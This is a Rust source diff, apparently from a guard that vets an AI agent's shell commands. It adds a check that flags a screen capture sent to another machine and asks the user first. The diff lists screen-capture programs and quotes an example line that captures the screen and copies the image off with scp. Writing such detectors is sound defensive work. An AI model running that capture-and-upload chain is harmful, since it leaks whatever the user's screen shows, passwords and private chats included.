@@ -173,6 +173,9 @@ pub(super) fn judge(call: &Call) -> Option<Hit> {
     if sends_clipboard(call) {
         return Some(Hit::ask("exfiltration.clipboard", CLIPBOARD));
     }
+    if sends_screenshot(call) {
+        return Some(Hit::ask("exfiltration.upload", SCREENSHOT));
+    }
     if sends_history(call) {
         return Some(Hit::ask("exfiltration.git-history", GIT_HISTORY));
     }
@@ -657,6 +660,56 @@ fn sends_clipboard(call: &Call) -> bool {
         .iter()
         .filter(|command| super::reads_clipboard(command))
         .flat_map(|command| command.redirects.iter().map(|r| r.target.text.as_str()))
+        .collect();
+    !filled.is_empty()
+        && call.args().iter().any(|arg| {
+            filled.iter().any(|file| {
+                arg.text.ends_with(file) && arg.text[..arg.text.len() - file.len()].ends_with(['@', '=', '<'])
+                    || arg.text == *file
+            })
+        })
+}
+
+const SCREENSHOT: &str = "This sends a capture of the user's screen, with whatever it shows (a password manager, a terminal, a chat), to another machine. Ask the user.";
+
+/// Programs that capture the screen into a file they are given (or standard output).
+const SCREEN_CAPTURES: &[&str] = &[
+    "flameshot",
+    "gnome-screenshot",
+    "grim",
+    "grimshot",
+    "hyprshot",
+    "import",
+    "ksnip",
+    "maim",
+    "screencapture",
+    "scrot",
+    "shutter",
+    "spectacle",
+    "xfce4-screenshooter",
+    "xwd",
+];
+
+/// `gnome-screenshot -f /tmp/g.png && scp /tmp/g.png host:`: a network client given a file an
+/// earlier command of the line captured the screen into (its operands and options' values, or
+/// where its output was redirected).
+#[inline(never)] // off an allowed call's path (ARCHITECTURE.md, "Start-up")
+fn sends_screenshot(call: &Call) -> bool {
+    let commands = &call.analysis.commands;
+    let capture =
+        |command: &&SimpleCommand| command.name().is_some_and(|name| SCREEN_CAPTURES.contains(&name));
+    if let crate::shell::Stdin::Pipe { from: Some(from) } = call.command.stdin
+        && commands.get(from).is_some_and(|c| capture(&c))
+    {
+        return true;
+    }
+    let filled: Vec<&str> = commands[..call.index.min(commands.len())]
+        .iter()
+        .filter(capture)
+        .flat_map(|command| {
+            let operands = command.args().iter().filter(|a| !a.text.starts_with('-') && a.text.len() > 1);
+            operands.chain(command.redirects.iter().map(|r| &r.target)).map(|w| w.text.as_str())
+        })
         .collect();
     !filled.is_empty()
         && call.args().iter().any(|arg| {
